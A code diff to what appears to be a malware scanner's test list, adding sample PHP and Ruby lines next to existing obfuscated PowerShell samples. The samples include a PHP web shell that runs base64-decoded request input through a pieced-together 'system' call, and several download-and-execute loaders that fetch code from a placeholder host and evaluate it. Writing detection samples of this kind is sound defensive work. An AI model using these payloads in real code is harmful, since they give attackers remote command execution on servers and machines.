@@ -115,6 +115,8 @@ RUN = [
         "$s = [Text.Encoding]::Unicode.GetString([Convert]::FromBase64String($e))\n& ([scriptblock]::Create($s))",
     ),
     ("a.ps1", "&('I'+'EX') (New-Object ('Net.Web'+'Client')).('Down'+'loadString').Invoke('https://c.invalid/a')"),
+    ("a.php", "<?php\n$f = ('sys') . ('tem');\n$f(base64_decode($_GET['c']));"),
+    ("a.rb", "file = Client.new\ncode = file.get('https://c.invalid/boot.rb')\neval(code)"),
     ("a.ps1", "$f = 'ie' + 'x'\n$s = irm https://c.invalid/x\n& $f $s"),
 ]
 HARMLESS = [
